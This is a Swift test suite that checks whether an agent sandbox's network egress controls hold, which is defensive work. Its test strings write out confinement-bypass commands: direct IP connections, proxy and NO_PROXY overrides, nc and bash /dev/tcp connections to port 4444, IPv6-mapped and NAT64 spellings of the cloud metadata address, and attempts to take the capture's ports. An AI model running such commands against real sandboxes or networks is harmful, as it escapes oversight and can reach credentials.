import Foundation
import Testing

extension EndToEnd {
    @Suite("Egress", .serialized, .enabled(if: Internet.available, "needs root: a network of the test's own"))
    struct EgressTests {
        let place: Place
        let internet: Internet

        init() throws {
            place = try Place()
            internet = try Internet.started()
        }

        /// Outside the bytes arrive; inside they do not, and one record says what was refused.
        private func expectCaught(_ script: String, resource: String) throws {
            let control = try place.unconfined(script, in: internet)
            #expect(control.sink.contains { $0.contains("bytes") }, "\(control)")
            let attempt = try place.attempt(script, in: internet)
            #expect(attempt.sink.isEmpty, "\(attempt)")
            #expect(attempt.outcome.code != 124, "\(attempt)")
            #expect(attempt.denied.count == 1, "\(attempt)")
            #expect(attempt.denied.first?.record.resource.contains(resource) == true, "\(attempt)")
            #expect(attempt.denied.first?.lineage.hasSuffix("> corpus") == true)
        }

        @Test("A01: a direct connection to an address is caught and denied")
        func directAddress() throws {
            try expectCaught(
                "curl -sk -m30 --noproxy '*' https://93.184.216.66/",
                resource: "https://93.184.216.66"
            )
        }

        @Test("A02: a program without any environment reaches what is allowed, under the same policy")
        func emptyEnvironment() throws {
            let attempt = try place.attempt(
                "env -i /usr/bin/curl -sS -m30 https://allowed.test/v1/a02; env -i /usr/bin/curl -sS -m30 https://allowed.test/a02",
                in: internet
            )
            #expect(attempt.output.contains("reached allowed.test /v1/a02"), "\(attempt)")
            #expect(attempt.denial?.reason == "no-rule")
            #expect(attempt.records.map(\.verdict) == ["allow", "deny"])
            #expect(try internet.requests(with: "/a02 ") == 1)
        }

        @Test("A03: a proxy of the agent's choice is not reached")
        func foreignProxy() throws {
            try expectCaught(
                "https_proxy=http://93.184.216.66:3128 timeout 60 curl -sS -m30 https://allowed.test/v1/x",
                resource: "93.184.216.66:3128"
            )
        }

        @Test("A04: NO_PROXY leads nowhere")
        func noProxy() throws {
            try expectCaught(
                "NO_PROXY='*' no_proxy='*' curl -sk -m30 https://denied.test/",
                resource: "https://denied.test"
            )
        }

        @Test("A05: other ports are caught as well", arguments: [8081, 4444, 9000])
        func otherPort(port: Int) throws {
            try expectCaught(
                "echo hello | timeout 60 nc -w20 denied.test \(port)",
                resource: "denied.test:\(port)"
            )
            try expectCaught(
                "timeout 60 curl -sS -m30 http://denied.test:\(port)/",
                resource: "denied.test:\(port)"
            )
        }

        @Test("A06: an allowed host is allowed at its port only", arguments: [22, 25])
        func allowedHostOtherPort(port: Int) throws {
            try expectCaught(
                "echo hello | timeout 60 nc -w20 allowed.test \(port)",
                resource: "allowed.test:\(port)"
            )
        }

        @Test("A08: an IPv6 literal is caught and on record as such")
        func literalV6() throws {
            try expectCaught("curl -sS -m30 -g 'http://[2606:2800::66]/'", resource: "http://[2606:2800::66]")
        }

        @Test("A09: there is no interface but lo, so no link-local neighbour either")
        func linkLocal() throws {
            let attempt = try place.attempt(
                "grep -c : /proc/net/dev; grep -c lo: /proc/net/dev; curl -sS -m30 -g 'http://[fe80::1%25eth0]/'",
                in: internet
            )
            #expect(attempt.output == "1\n1\n", "\(attempt)")
            #expect(attempt.outcome.code != 0)
            #expect(attempt.sink.isEmpty)
        }

        @Test("A10: an IPv4-mapped address is the IPv4 address")
        func mapped() throws {
            try expectCaught(
                "curl -sS -m30 -g 'http://[::ffff:169.254.169.254]/'",
                resource: "http://169.254.169.254"
            )
        }

        @Test(
            "A11: NAT64 and 6to4 spellings of the metadata service are denied",
            arguments: ["64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1"]
        )
        func translated(address: String) throws {
            try expectCaught("curl -sS -m30 -g 'http://[\(address)]/'", resource: "[\(address)]")
        }

        @Test(
            "A29: the capture's own ports cannot be taken, with or without SO_REUSEPORT",
            arguments: [3128, 53]
        )
        func capturePort(port: Int) throws {
            let script = """
                python3 - <<'END'
                import socket
                for reuse in (0, 1):
                    for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::")):
                        server = socket.socket(family, socket.SOCK_STREAM)
                        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, reuse)
                        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                        try:
                            server.bind((address, NUMBER)); server.listen(); print("taken")
                        except OSError as error:
                            print("refused")
                        server.close()
                END
                """
            let attempt = try place.attempt(script.replacing("NUMBER", with: "\(port)"), in: internet)
            #expect(attempt.output == "refused\nrefused\nrefused\nrefused\n", "\(attempt)")
            let free = try place.attempt(script.replacing("NUMBER", with: "3000"), in: internet)
            #expect(free.output == "taken\ntaken\ntaken\ntaken\n", "\(free)")
        }

        @Test("A30: no launch has a moment in which a packet leaves")
        func bootWindow() throws {
            try place.profile("corpus", Place.corpusPolicy)
            let launch = "\(Binary.path) run -p corpus --profiles '\(place.profiles)' --"
            // Waits for the reset, so that the record is there when the agent ends.
            let connect = "bash -c 'exec 3<>/dev/tcp/93.184.216.66/4444; echo x >&3; read -t 60 <&3'"
            let script = "for i in $(seq 30); do \(launch) \(connect); done"
            let attempt = try place.unconfined(script, in: internet)
            #expect(attempt.sink.isEmpty, "\(attempt)")
            #expect(try place.records(["--denied"]).count == 30, "\(attempt)")
            let control = try place.unconfined(connect, in: internet)
            #expect(control.sink.contains("2 bytes to 93.184.216.66 4444"), "\(control)")
        }

        @Test(
            "A31: the agent's own servers on loopback work, on both families",
            arguments: ["127.0.0.1", "::1"]
        )
        func ownServer(address: String) throws {
            let host = address.contains(":") ? "[\(address)]" : address
            let script = """
                echo mine > page; python3 -m http.server --bind \(address) 3000 >/dev/null 2>&1 &
                curl -sS -g --retry 40 --retry-connrefused --retry-delay 1 -m20 http://\(host):3000/page; kill $!
                """
            let attempt = try place.attempt(script, in: internet)
            #expect(attempt.output == "mine\n", "\(attempt)")
            #expect(attempt.records.isEmpty)
        }

        @Test("A32: a service on the host's loopback is not there")
        func hostLoopback() throws {
            let script = "echo hello | timeout 60 nc -w20 127.0.0.1 9000"
            let control = try place.unconfined(script, in: internet)
            #expect(control.sink.contains { $0.contains("bytes to 127.0.0.1 9000") }, "\(control)")
            let attempt = try place.attempt(script, in: internet)
            #expect(attempt.sink.isEmpty, "\(attempt)")
            #expect(attempt.outcome.code != 0)
        }

        @Test("CONNECT and absolute-form requests work through 127.0.0.1:3128 and are decided the same way")
        func explicitProxy() throws {
            let attempt = try place.attempt(
                """
                curl='curl -sS -m30 -x http://127.0.0.1:3128'
                $curl https://allowed.test/v1/connect; $curl http://allowed.test/absolute
                $curl https://denied.test/; $curl http://denied.test/; $curl https://allowed.test/elsewhere
                """,
                in: internet
            )
            #expect(attempt.output.contains("reached allowed.test /v1/connect"), "\(attempt)")
            #expect(attempt.output.contains("reached allowed.test /absolute"), "\(attempt)")
            #expect(attempt.sink.isEmpty, "\(attempt)")
            #expect(attempt.denied.count == 3, "\(attempt)")
            #expect(try internet.requests(with: "/elsewhere") == 0)
        }

        @Test(
            "D11: a tcp rule forwards bytes as they are, also where the server speaks first; other ports stay closed"
        )
        func tcpRule() throws {
            let script = "printf 'abc\\n' | timeout 60 nc -q2 -w20 allowed.test 5555"
            let allowed = try place.attempt(
                script,
                profile: "extends: [base]\negress: [{to: \"tcp://allowed.test:5555\", allow: [connect]}]\n",
                in: internet
            )
            #expect(allowed.output == "220 hello\necho abc\n", "\(allowed)")
            #expect(allowed.records.map(\.verdict) == ["allow"])
            let denied = try place.attempt(script, in: internet)
            #expect(denied.output.isEmpty, "\(denied)")
            #expect(denied.denied.count == 1)
        }
    }
}
